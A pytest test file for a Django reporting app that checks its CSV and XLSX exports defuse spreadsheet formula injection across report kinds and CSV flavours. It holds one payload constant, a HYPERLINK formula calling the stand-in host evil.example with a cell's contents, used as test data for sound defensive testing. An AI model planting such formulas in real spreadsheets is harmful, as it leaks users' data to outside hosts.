"""Every CSV and XLSX the product writes defuses text that a spreadsheet would run as a formula.

A programme types its own name, its areas, outcome types and barrier tags. Each of those, started
with each character that starts a formula, goes through every download (a CSV in both flavours,
for Excel in Dutch and the international one); what arrives must show as text (a quote in front),
and no XLSX cell may be stored as a formula.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kansrijk.core.spreadsheet import CSV_FLAVOURS, FORMULA_STARTS, safe_cell
from kansrijk.escalation.choices import TagKind
from kansrijk.escalation.models import BarrierTag
from kansrijk.outcomes.models import OutcomeType
from kansrijk.people.models import Area, Programme
from kansrijk.reports.costbenefit import model_for
from kansrijk.trajectories.choices import Phase
from tests.factories import DoorbraakCaseFactory, outcome_type_of

pytestmark = pytest.mark.usefixtures("frozen_today")

KINDS = ["dashboard", "cost-benefit", "results"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _evil(start: str, what: str) -> str:
    return f"{start}{PAYLOAD} {what}"


@pytest.fixture(params=FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr", "lf"])
def start(request) -> str:
    return request.param


@pytest.fixture(params=list(CSV_FLAVOURS))
def flavour(request) -> str:
    return request.param


@pytest.fixture
def typed(cast, journey, start) -> dict[str, str]:
    """The programme's own names, each starting with `start`; a household so tables have rows."""
    names = {what: _evil(start, what) for what in ("programme", "area", "outcome", "benefit")}
    journey(Phase.ACTIVE)
    Programme.objects.filter(pk=cast.programme.pk).update(name=names["programme"])
    Area.objects.filter(pk=cast.area.pk).update(name=names["area"])
    outcome = outcome_type_of(cast.programme, "housing_found")
    OutcomeType.objects.filter(pk=outcome.pk).update(name=names["outcome"])
    # The coordinator's cost-benefit model, with a benefit they named themselves.
    model, benefits = model_for(Programme.objects.get(pk=cast.programme.pk))
    model.save()
    for benefit in benefits:
        benefit.model = model
        benefit.save()
    benefits[0].label = names["benefit"]
    benefits[0].save(update_fields=["label"])
    return names


def _download(client, cast, kind: str, file_format: str, **query) -> bytes:
    url = reverse(
        "report_download",
        kwargs={
            "programme_slug": cast.programme.slug,
            "report_kind": kind,
            "file_format": file_format,
        },
    )
    response = client.get(url, {"from": "2024", "to": "2025", **query})
    assert response.status_code == 200
    return response.content


def _csv_cells(content: bytes, flavour: str) -> list[str]:
    """The cells of a CSV file of this flavour, which starts with a byte-order mark."""
    assert content.startswith("\ufeff".encode())
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    rows = csv.reader(text, delimiter=CSV_FLAVOURS[flavour].delimiter)
    return [cell for row in rows for cell in row]


def _assert_defused(cells: list[str]) -> None:
    """No cell starts a formula; a cell that starts with a sign is a plain number."""
    for cell in cells:
        assert safe_cell(cell) == cell, f"live cell: {cell!r}"


def _shown_as_text(name: str, cells: list[str]) -> bool:
    """The name is in a cell, after a quote. Its first character may arrive changed (gettext and
    XML make a carriage return a line feed), and the results list writes a name capitalised."""
    return any(c[:1] == "'" and c[2:].lower() == name[1:].lower() for c in cells)


# What each report shows of the names the programme typed (all show the programme's name).
SHOWN = {
    "dashboard": ["programme", "area"],
    "cost-benefit": ["programme", "benefit"],
    "results": ["programme", "outcome"],
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_report_csv_shows_a_typed_formula_as_text(client, cast, typed, kind, flavour):
    client.force_login(cast.coordinator)

    cells = _csv_cells(_download(client, cast, kind, "csv", flavour=flavour), flavour)

    _assert_defused(cells)
    for what in SHOWN[kind]:
        assert _shown_as_text(typed[what], cells), what


@pytest.mark.parametrize("kind", KINDS)
def test_a_report_xlsx_holds_no_formula_and_shows_a_typed_one_as_text(client, cast, typed, kind):
    client.force_login(cast.funder)

    book = load_workbook(io.BytesIO(_download(client, cast, kind, "xlsx")))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    _assert_defused(texts)
    for what in SHOWN[kind]:
        assert _shown_as_text(typed[what], texts), what


def test_the_learning_register_csv_shows_a_typed_formula_as_text(
    client, cast, journey, start, flavour
):
    tag = BarrierTag.objects.create(
        kind=TagKind.BARRIER, name=_evil(start, "tag"), programme=cast.programme
    )
    case = DoorbraakCaseFactory(trajectory=journey(Phase.ACTIVE), opened_by=cast.coordinator)
    case.barrier_types.add(tag)
    client.force_login(cast.coordinator)

    response = client.get(reverse("learning_register_csv"), {"flavour": flavour})

    assert response.status_code == 200
    cells = _csv_cells(response.content, flavour)
    _assert_defused(cells)
    assert _shown_as_text(_evil(start, "tag"), cells)
